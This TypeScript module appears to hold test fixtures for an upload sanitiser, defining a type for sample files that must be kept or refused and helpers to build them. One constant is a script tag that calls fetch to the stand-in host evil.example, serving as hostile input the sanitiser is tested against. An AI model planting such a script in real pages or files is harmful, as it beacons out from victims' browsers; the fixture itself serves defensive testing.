/** One file of the zoo, made in memory, with what must become of it. */
export interface Beast {
  readonly what: string;
  /** The name it comes under. */
  readonly name: string;
  readonly bytes: Buffer;
  /** `kept`: a door that turns ordinary papers away is of no use. `either`: kept or not, it must be harmless. */
  readonly must: 'kept' | 'refused' | 'either';
}

/** Stands in everything that must not come out again: metadata, scripts, files inside. */
export const MARK = 'ZooMark7f3a';

export const script = `<script>fetch('//evil.example/${MARK}')</script>`;

/** A beast that must be turned away. */
export const refused = (what: string, name: string, bytes: Buffer | string): Beast => ({ what, name, bytes: Buffer.from(bytes as string), must: 'refused' });
/** A beast that must be kept. */
export const kept = (what: string, name: string, bytes: Buffer | string): Beast => ({ what, name, bytes: Buffer.from(bytes as string), must: 'kept' });
